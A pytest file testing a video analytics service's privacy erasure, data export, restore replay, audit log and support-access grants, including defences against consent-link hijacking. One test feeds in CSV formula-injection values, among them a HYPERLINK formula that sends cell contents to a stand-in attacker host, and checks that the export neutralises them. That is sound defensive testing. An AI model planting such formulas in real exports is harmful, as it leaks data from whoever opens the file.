"""Erasure, access and the audit log against real chDB, several tenants at once."""

from __future__ import annotations

import io
import json
import time
import uuid
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analytics import events, rollup
from edge.vod import videos
from retention import purge, subjects
from retention.registry import REGISTRY
from tests.conftest import admin_headers, collect, consent, identity_token, stored_row, wait_for


def _count_everywhere(store, tenant_id: str, subject) -> dict[str, int]:
    """Rows of the subject in every registered table, the deleted-rows mask off."""
    out = {}
    for table in REGISTRY:
        cond = subject.condition(table)
        if cond is None:
            continue
        sql, params = cond
        out[table.table] = int(store.command(
            f"SELECT count() FROM {table.table} WHERE tenant_id = {{tenant:String}} AND {sql}"
            " SETTINGS apply_deleted_mask = 0", parameters={"tenant": tenant_id, **params}))
    return out


def _total(store, tenant_id):
    return sum(int(store.command(f"SELECT count() FROM {t.table} WHERE tenant_id = {{t:String}}",
                                 parameters={"t": tenant_id})) for t in REGISTRY)


@pytest.fixture(params=["rewrite", "mutation"])
def erasure(request, monkeypatch) -> str:
    """Both ways the embedded store erases (retention/deletion.py picks by the table's
    number of parts, which in a shared test store is whatever the suite left): each forced."""
    from retention import deletion

    monkeypatch.setattr(deletion, "MUTATION_MAX_PARTS", 0 if request.param == "rewrite" else 10**6)
    return request.param


@pytest.fixture
def people(server, tenant_factory, store):
    """Tenant A: alice (identified by email, two viewer ids), bob; tenant B: alice's ids again."""
    a, key_a = tenant_factory(identified_viewers=True)
    b, key_b = tenant_factory()
    http = server.http
    for tenant, viewer, email in ((a, "alice-1", "alice@example.org"), (a, "alice-2", "alice@example.org"),
                                  (a, "bob", None), (b, "alice-1", None)):
        extra = {"viewer_email": email} if email else {}
        proof = {"identity_token": identity_token(http, key_a, a.tenant_id, viewer, email)} if email else {}
        assert consent(http, tenant.tenant_id, viewer, **extra, **proof).status_code == 201
        evs = [{"type": "viewstart", "ts": int(time.time() * 1000), "view_id": f"{viewer}-v", "video_id": "vd_1"},
               {"type": "playing", "ts": int(time.time() * 1000) + 900, "view_id": f"{viewer}-v", "video_id": "vd_1"}]
        addr = {"alice-1": "203.0.113.7", "alice-2": "203.0.113.7", "bob": "198.51.100.9"}[viewer]
        r = collect(http, tenant.tenant_id, viewer, evs, headers={"x-forwarded-for": addr}, **extra)
        assert r.status_code == 202, r.text
    wait_for(lambda: server.edge.buffer.pending_rows == 0)
    rollup.fold_touched(store, time.time() - 60)
    return server, a, key_a, b, key_b


def test_purge_by_email_erases_every_linked_row_physically_and_nothing_else(people, store, erasure):
    server, a, key_a, b, key_b = people
    before_b = _total(store, b.tenant_id)
    bob = subjects.parse("viewer_id", "bob")
    bob_before = _count_everywhere(store, a.tenant_id, bob)
    r = server.http.post("/v1/privacy/purge", json={"email": "alice@example.org"}, headers=admin_headers(key_a))
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["status"] == "completed" and body["purge_id"].startswith("pg_")
    # 2 beacons x 2 viewer ids, 2 consents, 2 views.
    assert body["rows_deleted"]["viewer_events"] == 4 and body["rows_deleted"]["consents"] == 2
    assert body["rows_deleted"]["views"] == 2
    alice = subjects.Subject("email", "alice@example.org", ("alice-1", "alice-2"))
    assert set(_count_everywhere(store, a.tenant_id, alice).values()) == {0}
    assert _count_everywhere(store, a.tenant_id, bob) == bob_before, "bob untouched"
    assert _total(store, b.tenant_id) == before_b, "tenant B's alice-1 untouched"
    # The ledger names nobody in clear; the audit log neither.
    ledger = store.rows("SELECT kind, subject_hashes, rows_deleted FROM purges WHERE purge_id = {p:String}",
                        {"p": body["purge_id"]})
    assert ledger[0][0] == "email" and len(ledger[0][1]) == 3
    # Audit rows are written by their own thread, after the response: wait for the purge's.
    def audit_dump() -> str:
        return json.dumps(store.rows("SELECT * FROM audit_log WHERE tenant_id = {t:String}", {"t": a.tenant_id}),
                          default=str)
    wait_for(lambda: "POST /v1/privacy/purge" in audit_dump())
    assert "alice" not in audit_dump()
    # A purged viewer's consent is gone: her next beacon is refused, not stored.
    late = collect(server.http, a.tenant_id, "alice-1",
                   [{"type": "heartbeat", "ts": int(time.time() * 1000), "view_id": "x", "video_id": "vd_1"}])
    assert late.status_code == 403


def _beacons_of(store, tenant_id, viewer_id):
    return int(store.command("SELECT count() FROM viewer_events WHERE tenant_id = {t:String} AND viewer_id = {v:String}",
                             parameters={"t": tenant_id, "v": viewer_id}))


def test_an_anonymous_call_cannot_link_a_victims_viewer_id_to_another_email(server, tenant_factory, store):
    """Issue #14's hijack: the victim consents with viewer id V; an attacker posts a consent
    with V and their own e-mail, then asks for an export or a purge by that e-mail. No link
    is made, so the export returns and the purge erases nothing of V."""
    tenant, key = tenant_factory(identified_viewers=True)
    tid, http = tenant.tenant_id, server.http
    victim_token = identity_token(http, key, tid, "victim-v", "victim@example.org")
    assert consent(http, tid, "victim-v", viewer_email="victim@example.org", identity_token=victim_token).status_code == 201
    assert consent(http, tid, "anon-w").status_code == 201  # a victim the site never identified
    for viewer in ("victim-v", "anon-w"):
        evs = [{"type": "viewstart", "ts": int(time.time() * 1000), "view_id": f"{viewer}-1", "video_id": "vd_1"}]
        assert collect(http, tid, viewer, evs).status_code == 202
    wait_for(lambda: _beacons_of(store, tid, "victim-v") == _beacons_of(store, tid, "anon-w") == 1, what="beacons")
    # The attacker: no token, a token for their own viewer id, a token of another tenant.
    own_token = identity_token(http, key, tid, "attacker-a", "eve@example.org")
    _, other_key = tenant_factory(identified_viewers=True)
    for viewer in ("victim-v", "anon-w"):
        for extra in ({}, {"identity_token": own_token},
                      {"identity_token": identity_token(http, other_key, tid, viewer, "eve@example.org")}):
            r = consent(http, tid, viewer, viewer_email="eve@example.org", **extra)
            assert r.status_code == 403 and r.json()["error"] == "identity_unproven", (viewer, extra, r.text)
        # Beacons naming the attacker's e-mail link nothing either (beacons never store it).
        evs = [{"type": "heartbeat", "ts": int(time.time() * 1000), "view_id": f"{viewer}-1", "video_id": "vd_1"}]
        assert collect(http, tid, viewer, evs, viewer_email="eve@example.org").status_code == 202
    wait_for(lambda: server.edge.buffer.pending_rows == 0)
    assert store.rows("SELECT DISTINCT email FROM consents WHERE tenant_id = {t:String} AND email != ''",
                      {"t": tid}) == [("victim@example.org",)]
    r = http.get("/v1/privacy/export", params={"email": "eve@example.org"}, headers=admin_headers(key))
    assert r.status_code == 200
    data = r.json()
    assert data["subject"]["linked_viewer_ids"] == []
    assert {table: rows for table, rows in data["tables"].items() if rows} == {}, "nothing about anyone"
    before = {v: _beacons_of(store, tid, v) for v in ("victim-v", "anon-w")}
    r = http.post("/v1/privacy/purge", json={"email": "eve@example.org"}, headers=admin_headers(key))
    assert r.status_code == 200 and set(r.json()["rows_deleted"].values()) == {0}, r.text
    assert {v: _beacons_of(store, tid, v) for v in before} == before == {"victim-v": 2, "anon-w": 2}
    assert collect(http, tid, "victim-v", [{"type": "heartbeat", "ts": int(time.time() * 1000), "view_id": "x",
                                             "video_id": "vd_1"}]).status_code == 202, "V's consent stands"
    # The victim's own, proven link still reaches V.
    mine = http.get("/v1/privacy/export", params={"email": "victim@example.org"}, headers=admin_headers(key)).json()
    assert mine["subject"]["linked_viewer_ids"] == ["victim-v"]


def test_links_written_before_proofs_are_not_followed(server, tenant_factory, store):
    """A consent row from before identity tokens (email_proof '') may be a hijack: an export
    or purge by its e-mail matches that row itself, never the rest of its viewer id's data."""
    tenant, key = tenant_factory(identified_viewers=True)
    tid = tenant.tenant_id
    assert consent(server.http, tid, "victim-v").status_code == 201
    assert collect(server.http, tid, "victim-v", [{"type": "viewstart", "ts": int(time.time() * 1000),
                                                   "view_id": "w", "video_id": "vd_1"}]).status_code == 202
    wait_for(lambda: _beacons_of(store, tid, "victim-v") == 1, what="the victim's beacon")
    store.command("INSERT INTO consents (consent_id, tenant_id, viewer_id, email, action, purposes, policy_version,"
                  " ts, ip, browser) VALUES (generateUUIDv4(), {t:String}, 'victim-v', 'eve@example.org', 'grant',"
                  " ['analytics'], 'v1', now64(6) - 1, '::', '')", parameters={"t": tid})
    data = server.http.get("/v1/privacy/export", params={"email": "eve@example.org"}, headers=admin_headers(key)).json()
    assert data["subject"]["linked_viewer_ids"] == []
    assert data["tables"]["viewer_events"] == [] and data["tables"]["views"] == []
    assert [row["email"] for row in data["tables"]["consents"]] == ["eve@example.org"]
    r = server.http.post("/v1/privacy/purge", json={"email": "eve@example.org"}, headers=admin_headers(key))
    assert r.json()["rows_deleted"]["consents"] == 1 and r.json()["rows_deleted"]["viewer_events"] == 0
    assert _beacons_of(store, tid, "victim-v") == 1


def test_purge_by_ip_and_by_viewer_id(people, store):
    server, a, key_a, b, _ = people
    r = server.http.post("/v1/privacy/purge", json={"ip": "198.51.100.9"}, headers=admin_headers(key_a))
    assert r.status_code == 200 and r.json()["rows_deleted"]["viewer_events"] == 2
    assert _count_everywhere(store, a.tenant_id, subjects.parse("ip", "198.51.100.9"))["viewer_events"] == 0
    r = server.http.post("/v1/privacy/purge", json={"viewer_id": "alice-2"}, headers=admin_headers(key_a))
    assert r.json()["rows_deleted"]["viewer_events"] == 2
    assert _count_everywhere(store, a.tenant_id, subjects.parse("viewer_id", "alice-1"))["viewer_events"] == 2


def test_purge_requests_are_validated(server, tenant_factory):
    _, key = tenant_factory()
    for body, path in (({}, "$"), ({"viewer_id": "a", "ip": "1.2.3.4"}, "$"), ({"ip": "not-an-ip"}, "$.ip"),
                       ({"email": "nope"}, "$.email"), ({"name": "x"}, "$")):
        r = server.http.post("/v1/privacy/purge", json=body, headers=admin_headers(key))
        assert r.status_code == 400, (body, r.text)
        assert r.json()["detail"]["path"] == path
    assert server.http.post("/v1/privacy/purge", json={"viewer_id": "a"}).status_code == 401


def test_export_holds_every_row_as_json_and_zip(people, store):
    server, a, key_a, *_ = people
    r = server.http.get("/v1/privacy/export", params={"email": "alice@example.org"}, headers=admin_headers(key_a))
    assert r.status_code == 200
    data = r.json()
    assert data["subject"] == {"kind": "email", "linked_viewer_ids": ["alice-1", "alice-2"]}
    assert set(data["tables"]) == {t.table for t in REGISTRY}
    assert len(data["tables"]["viewer_events"]) == 4 and len(data["tables"]["consents"]) == 2
    assert {row["viewer_id"] for row in data["tables"]["views"]} == {"alice-1", "alice-2"}
    z = server.http.get("/v1/privacy/export", params={"viewer_id": "bob", "format": "zip"}, headers=admin_headers(key_a))
    assert z.headers["content-type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(z.content))
    assert set(archive.namelist()) == {"README.md", *(f"{t.table}.csv" for t in REGISTRY)}
    events_csv = archive.read("viewer_events.csv").decode().splitlines()
    assert len(events_csv) == 3 and "bob" in events_csv[1]
    readme = archive.read("README.md").decode()
    assert "`viewer_id`: a random identifier" in readme and "viewer_events.csv (2 rows)" in readme


def test_export_zip_csvs_neutralise_formulas_and_line_breaks_from_beacons(server, tenant_factory, store):
    """A viewer's own beacons carry text the page chose (error messages, codes): in the
    export's CSVs a leading = + - @ becomes text (a ' first) and a CR stays in its cell."""
    import csv

    tenant, key = tenant_factory()
    http = server.http
    assert consent(http, tenant.tenant_id, "mallory").status_code == 201
    hostile = {"error_message": '=HYPERLINK("http://evil.example/?"&A1,"open")', "error_code": "@SUM(1)"}
    now = int(time.time() * 1000)
    evs = [{"type": "viewstart", "ts": now, "view_id": "-1-1", "video_id": "vd_1"},
           {"type": "error", "ts": now + 1, "view_id": "-1-1", "video_id": "vd_1", "fatal": True, **hostile},
           {"type": "error", "ts": now + 2, "view_id": "-1-1", "video_id": "vd_1",
            "error_code": "+1", "error_message": "first line\r\n=1+1,;@x"}]
    assert collect(http, tenant.tenant_id, "mallory", evs).status_code == 202
    wait_for(lambda: server.edge.buffer.pending_rows == 0)
    z = http.get("/v1/privacy/export", params={"viewer_id": "mallory", "format": "zip"}, headers=admin_headers(key))
    assert z.status_code == 200
    text = zipfile.ZipFile(io.BytesIO(z.content)).read("viewer_events.csv").decode()
    table = list(csv.DictReader(io.StringIO(text)))
    assert len(table) == 3  # no row smuggled in by the CR LF
    by_type = sorted(table, key=lambda row: row["ts"])
    assert {row["view_id"] for row in table} == {"'-1-1"}
    assert by_type[1]["error_message"] == "'" + hostile["error_message"]
    assert by_type[1]["error_code"] == "'@SUM(1)"
    assert by_type[2]["error_code"] == "'+1" and by_type[2]["error_message"] == "first line\r\n=1+1,;@x"
    for row in table:
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_restore_replays_the_ledger(people, store, erasure):
    """A backup taken before a purge, restored: the replay erases the subject again."""
    server, a, key_a, *_ = people
    kept = store.rows("SELECT * FROM viewer_events WHERE tenant_id = {t:String} AND viewer_id = 'bob'",
                      {"t": a.tenant_id})
    taken = time.time()
    assert server.http.post("/v1/privacy/purge", json={"viewer_id": "bob"}, headers=admin_headers(key_a)).status_code == 200
    # "Restore": the backup's rows come back.
    store.insert_rows("viewer_events", kept, [c for c, in store.rows("SELECT name FROM system.columns WHERE"
                                                                     " table = 'viewer_events' AND database = currentDatabase()"
                                                                     " ORDER BY position")])
    assert _count_everywhere(store, a.tenant_id, subjects.parse("viewer_id", "bob"))["viewer_events"] == 2
    erased = purge.replay(store, server.edge.secret, taken - 1)
    assert erased["viewer_events"] == 2
    assert _count_everywhere(store, a.tenant_id, subjects.parse("viewer_id", "bob"))["viewer_events"] == 0


def test_audit_log_records_admin_calls_without_keys(server, tenant_factory, store):
    _, key = tenant_factory()
    server.http.post("/v1/streams", json={"name": "audited"}, headers=admin_headers(key))
    server.http.get("/v1/analytics/summary", headers=admin_headers(key))

    def actions():  # records are written just after each response
        return [rec["action"] for rec in server.http.get("/v1/audit", headers=admin_headers(key)).json()["records"]]

    wait_for(lambda: {"POST /v1/streams", "GET /v1/analytics/summary"} <= set(actions()), what="audit records")
    r = server.http.get("/v1/audit", headers=admin_headers(key))
    assert all(rec["actor"].startswith("key:") and key not in json.dumps(rec) for rec in r.json()["records"])
    assert {rec["status"] for rec in r.json()["records"] if rec["action"] == "POST /v1/streams"} == {201}
    csv_text = server.http.get("/v1/audit", params={"format": "csv"}, headers=admin_headers(key)).text
    assert csv_text.startswith("ts,actor,actor_kind,action")
    only = server.http.get("/v1/audit", params={"action": "streams"}, headers=admin_headers(key)).json()["records"]
    assert {rec["action"] for rec in only} == {"POST /v1/streams"}


@pytest.mark.parametrize("max_parts", [0, 10**6], ids=["rewrite", "mutation"])
@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.sampled_from(["v1", "v2", "v3", "v4"]),
                          st.sampled_from(["10.0.0.1", "10.0.0.2", "2001:db8::5"]),
                          st.sampled_from(["", "p@x.io", "q@x.io"])), min_size=1, max_size=30),
       st.sampled_from([("viewer_id", "v1"), ("viewer_id", "v3"), ("ip", "10.0.0.2"), ("ip", "2001:db8::5"),
                        ("email", "p@x.io")]))
def test_purge_removes_exactly_the_subjects_rows(store, max_parts, rows, target):
    """Property: after a purge, the subject has no row anywhere; every other row remains
    (by either way of erasing: retention/deletion.py)."""
    from retention import deletion

    deletion.MUTATION_MAX_PARTS, kept = max_parts, deletion.MUTATION_MAX_PARTS
    try:
        _purge_removes_exactly_the_subjects_rows(store, rows, target)
    finally:
        deletion.MUTATION_MAX_PARTS = kept


def _purge_removes_exactly_the_subjects_rows(store, rows, target):
    tenant = "tn_prop_" + uuid.uuid4().hex[:8]
    stored = [stored_row(tenant, viewer_id=v, ip=f"::ffff:{ip}" if "." in ip else ip, email=e,
                         event_id=str(uuid.uuid4())) for v, ip, e in rows]
    events.insert(store, events.encode_rows(stored))
    subject = subjects.with_links(store, tenant, subjects.parse(*target))

    def matches(v, ip, e):
        if subject.kind == "viewer_id":
            return v == subject.value
        if subject.kind == "ip":
            return subjects.parse("ip", ip).value == subject.value
        return e == subject.value or v in subject.linked_viewer_ids

    expected_left = sum(1 for r in rows if not matches(*r))
    result = purge.purge(store, tenant, subject, b"k", "test")
    assert result.rows_deleted["viewer_events"] == len(rows) - expected_left
    assert int(store.command("SELECT count() FROM viewer_events WHERE tenant_id = {t:String}"
                             " SETTINGS apply_deleted_mask = 0", parameters={"t": tenant})) == expected_left


def test_support_reads_only_under_a_live_grant_and_is_audited(server, tenant_factory, store):
    from core.tenants import create_support_key

    tenant, key = tenant_factory()
    other, _ = tenant_factory()
    support_key = create_support_key(store, "alex")
    as_support = {"authorization": f"Bearer {support_key}", "x-wave-tenant": tenant.tenant_id}
    assert server.http.get("/v1/analytics/summary", headers=as_support).status_code == 403
    assert server.http.get("/v1/streams", headers=admin_headers(support_key)).status_code == 403  # no tenant named
    r = server.http.post("/v1/support-grants", json={"duration_s": 600}, headers=admin_headers(key))
    assert r.status_code == 201, r.text
    grant_id = r.json()["grant_id"]
    assert server.http.get("/v1/analytics/summary", headers=as_support).status_code == 200
    assert server.http.post("/v1/streams", json={"name": "x"}, headers=as_support).status_code == 403  # read-only
    assert server.http.post("/v1/support-grants", json={}, headers=as_support).status_code == 403
    # The grant is for this tenant only.
    assert server.http.get("/v1/analytics/summary", headers={**as_support, "x-wave-tenant": other.tenant_id}
                           ).status_code == 403
    assert server.http.delete(f"/v1/support-grants/{grant_id}", headers=admin_headers(key)).status_code == 200
    assert server.http.get("/v1/analytics/summary", headers=as_support).status_code == 403
    grants = server.http.get("/v1/support-grants", headers=admin_headers(key)).json()["grants"]
    assert [(g["grant_id"], g["revoked"], g["active"]) for g in grants] == [(grant_id, True, False)]

    def support_records():
        recs = server.http.get("/v1/audit", headers=admin_headers(key)).json()["records"]
        return [(r["actor_kind"], r["action"], r["status"]) for r in recs if r["actor_kind"] == "support"]

    wait_for(lambda: len(support_records()) >= 5, what="support calls in the tenant's audit log")
    assert ("support", "GET /v1/analytics/summary", 200) in support_records()
    assert ("support", "GET /v1/analytics/summary", 403) in support_records()


def test_purge_by_ip_reaches_the_fronts_unread_files_and_open_hls_sessions(people, store):
    """The nginx front hands the edge one file per second of the segments it served; a
    purge by IP must not leave the subject's requests there (or in the open HLS session
    they would have become), while another address's session stays."""
    server, a, key_a, _, _ = people
    video = videos.Video(video_id=videos.new_video_id(), tenant_id=a.tenant_id, status="ready", created_at=time.time())
    videos.save(store, video)
    directory = server.edge.front_log.directory
    second = int(time.time())
    line = '{{"uri":"/vod/{vid}/seg_00001.m4s","bytes":900,"addr":"{ip}","at":{at},"ua":"UA","status":200}}\n'
    (directory / f"{second}.jsonl").write_text(line.format(vid=video.video_id, ip="198.51.100.9", at=second)
                                               + line.format(vid=video.video_id, ip="203.0.113.7", at=second))
    r = server.http.post("/v1/privacy/purge", json={"ip": "198.51.100.9"}, headers=admin_headers(key_a))
    assert r.status_code == 200
    left = " ".join(p.read_text() for p in directory.iterdir())
    assert "198.51.100.9" not in left
    open_runs = {run.ip for run in server.edge.sessions._hls.values() if run.media_id == video.video_id}
    assert open_runs == {"203.0.113.7"}
